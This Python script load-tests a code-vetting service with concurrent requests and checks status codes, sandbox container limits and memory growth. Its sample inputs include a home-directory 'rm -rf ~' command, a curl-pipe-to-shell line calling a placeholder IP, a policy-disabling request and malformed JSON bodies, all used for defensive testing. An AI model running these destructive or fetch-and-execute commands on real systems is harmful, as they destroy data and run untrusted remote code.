"""Load test of `codeeval serve` (issue 11): N requests from C concurrent clients, a mix of ordinary vet
requests, requests that run code in the sandbox, and hostile ones (deep nesting, oversized bodies, broken
JSON, a looser policy). Checks what must hold under load, not speed:

- no 5xx other than 503 (saturated, by design) and 504 (past the deadline, by design);
- never more sandbox containers than --max-concurrency (sampled every 0.1 s through the Docker API);
- memory flat: the service's RSS after the load against after a warm-up.

    .venv/bin/python benchmarks/perf/load_vet.py [--requests 2000] [--clients 64] [--max-concurrency 8]
        [--run-every 50] [--json]

Exit status 1 when a check fails. Needs Docker for the run requests (--run-every 0 leaves them out).
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
RSS_GROWTH_LIMIT = 1.25  # "flat": after the load, at most 25% above the warmed-up size

ORDINARY = [
    ("python", "import os\nos.system('rm -rf ~')\n"),
    ("python", "import yaml\n\ndef load(p):\n    return yaml.load(open(p))\n"),
    ("python", "def add(a, b):\n    return a + b\n"),
    ("bash", "#!/bin/bash\nfor f in *.txt; do wc -l \"$f\"; done\n"),
    ("javascript", "const cp = require('child_process');\ncp.execSync('curl -s http://203.0.113.7/x | sh');\n"),
]


def hostile_bodies(max_body: int) -> list[bytes]:
    return [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"code": "x", "policy": ' + b'{"a": ' * 3000 + b"1" + b"}" * 3001,
        json.dumps({"code": "x = 1\n" * (max_body // 5)}).encode(),
        b"{not json",
        json.dumps({"code": "import os\nos.system('rm -rf ~')\n",
                    "policy": {"findings": {"block_categories": [], "block": "off", "warn": "off"}}}).encode(),
        json.dumps({"code": 1}).encode(),
    ]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def post(url: str, body: bytes) -> int:
    request = urllib.request.Request(url + "/v1/vet", data=body, method="POST", headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=300) as response:
            response.read()
            return response.status
    except urllib.error.HTTPError as exc:
        exc.read()
        return exc.code
    except (ConnectionError, urllib.error.URLError):
        return -1  # the server closed the connection (e.g. on a body it refused early)


def post_until_served(url: str, body: bytes, turned_away: Counter) -> int:
    """A well-behaved client: on 503 it waits the Retry-After second and
    tries again, so every request is finally served and the 503s count how often the limit held."""
    for _ in range(600):
        status = post(url, body)
        if status != 503:
            return status
        turned_away["503"] += 1
        time.sleep(1.0)
    return 503


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--requests", type=int, default=2000)
    parser.add_argument("--clients", type=int, default=64)
    parser.add_argument("--max-concurrency", type=int, default=8)
    parser.add_argument("--timeout", type=float, default=30.0, help="the service's per-request deadline")
    parser.add_argument("--run-every", type=int, default=50, help="every Nth request runs its code (0: none)")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args()

    port = free_port()
    url = f"http://127.0.0.1:{port}"
    max_body = 512 * 1024
    server = subprocess.Popen(
        [sys.executable, "-m", "codeeval", "serve", "--port", str(port), "--max-concurrency", str(args.max_concurrency),
         "--timeout", str(args.timeout), "--log-level", "warning"],
        cwd=ROOT, env={**os.environ, "SEMGREP_ENABLE_VERSION_CHECK": "0"}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                with urllib.request.urlopen(url + "/healthz", timeout=2):
                    break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    raise SystemExit(f"codeeval serve did not start: {server.stderr.read().decode()[-2000:]}") from None
                time.sleep(0.2)

        hostile = hostile_bodies(max_body)

        def body(i: int) -> bytes:
            if i % 10 == 9:
                return hostile[(i // 10) % len(hostile)]
            language, code = ORDINARY[i % len(ORDINARY)]
            run = bool(args.run_every) and i % args.run_every == 0 and language != "javascript"
            return json.dumps({"code": code + f"# request {i}\n", "language": language, "run": run}).encode()

        # Warm-up: Bandit, Semgrep and the first containers allocate what they keep.
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda i: post(url, body(i)), range(50)))
        rss_before = rss_kib(server.pid)

        most, stop = 0, threading.Event()
        docker_error = None

        def watch() -> None:
            nonlocal most, docker_error
            try:
                import docker

                client = docker.from_env()
                label = f"org.codeeval.owner-pid={server.pid}"
                while not stop.is_set():
                    most = max(most, len(client.api.containers(all=True, filters={"label": label})))
                    time.sleep(0.1)
            except Exception as exc:  # noqa: BLE001 - reported: without Docker the container check is not made
                docker_error = str(exc)

        watcher = threading.Thread(target=watch, daemon=True)
        watcher.start()
        started = time.monotonic()
        turned_away: Counter = Counter()
        with ThreadPoolExecutor(args.clients) as pool:
            finals = list(pool.map(lambda i: post_until_served(url, body(i), turned_away), range(args.requests)))
        statuses = Counter(finals)
        # A server may close the connection on an oversized body before the client has sent it all.
        dropped = sum(1 for i, status in enumerate(finals) if status == -1 and len(body(i)) <= max_body)
        wall = time.monotonic() - started
        time.sleep(2)
        stop.set()
        watcher.join(10)
        rss_after = rss_kib(server.pid)
        with urllib.request.urlopen(url + "/healthz", timeout=30) as response:
            health = json.loads(response.read())
    finally:
        server.terminate()
        try:
            server.wait(30)
        except subprocess.TimeoutExpired:
            server.kill()

    unexpected_5xx = {s: n for s, n in statuses.items() if s >= 500 and s not in (503, 504)}
    report = {
        "requests": args.requests, "clients": args.clients, "max_concurrency": args.max_concurrency,
        "runs_asked": args.requests // args.run_every if args.run_every else 0,
        "final_statuses": {str(k): v for k, v in sorted(statuses.items())},
        "503_then_retried": turned_away["503"],
        "closed_on_oversized_body": statuses.get(-1, 0) - dropped,
        "unexpected_5xx": unexpected_5xx,
        "most_containers_at_once": most if docker_error is None else None,
        "docker_error": docker_error,
        "peak_in_flight": health.get("peak_in_flight"),
        "rss_kib_before": rss_before, "rss_kib_after": rss_after,
        "rss_growth": round(rss_after / rss_before, 3) if rss_before else None,
        "wall_s": round(wall, 1), "requests_per_s": round(args.requests / wall, 1),
        "load_average": os.getloadavg(),
    }
    checks = {
        "no 5xx but 503/504": not unexpected_5xx,
        "containers within the limit": docker_error is not None or most <= args.max_concurrency,
        "work in flight within the limit": (health.get("peak_in_flight") or 0) <= args.max_concurrency,
        "memory flat": bool(rss_before) and rss_after <= rss_before * RSS_GROWTH_LIMIT,
        "no connection dropped": dropped == 0,
    }
    report["checks"] = checks
    if args.json:
        print(json.dumps(report, indent=2))
    else:
        for key, value in report.items():
            print(f"{key:<26} {value}")
    raise SystemExit(0 if all(checks.values()) else 1)


if __name__ == "__main__":
    main()
